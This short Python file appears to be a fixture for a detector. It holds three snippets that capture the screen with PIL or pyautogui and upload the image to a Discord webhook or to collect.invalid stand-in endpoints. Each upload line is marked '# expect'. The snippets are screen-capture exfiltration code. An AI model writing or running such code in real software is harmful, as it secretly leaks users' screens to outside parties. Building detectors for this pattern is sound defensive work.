import io
from PIL import ImageGrab
import pyautogui
import requests


def shot():
    image = ImageGrab.grab()
    image.save("shot.png")
    return "shot.png"


with open(shot(), "rb") as f:
    requests.post("https://discord.com/api/webhooks/0/x", files={"file": f})  # expect

buffer = io.BytesIO()
pyautogui.screenshot().save(buffer, "PNG")
requests.post("https://collect.invalid/s", data=buffer.getvalue())  # expect

pyautogui.screenshot("C:\\Users\\Public\\view.png")
with open("C:\\Users\\Public\\view.png", "rb") as f:
    requests.post("https://collect.invalid/v", files={"f": f})  # expect
